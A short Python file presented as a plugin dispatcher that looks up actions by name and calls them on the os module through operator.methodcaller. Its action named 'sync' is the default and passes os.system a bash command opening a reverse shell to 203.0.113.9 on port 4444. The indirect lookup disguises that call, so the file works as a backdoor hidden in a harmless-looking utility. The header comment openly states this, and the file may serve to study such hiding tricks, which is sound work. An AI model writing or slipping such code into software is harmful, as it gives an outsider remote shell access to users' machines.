# Plugin dispatcher: actions are looked up by name and applied with
# operator.methodcaller. One action calls the method "system" on the os module
# with a shell command that opens a reverse shell.
import operator
import os
import sys

ACTIONS = {
    "cwd": ("getcwd",),
    "pid": ("getpid",),
    "sync": ("system", "bash -c 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'"),
}


def run(action):
    name, *args = ACTIONS[action]
    call = operator.methodcaller(name, *args)
    return call(os)


if __name__ == "__main__":
    print(run(sys.argv[1] if len(sys.argv) > 1 else "sync"))
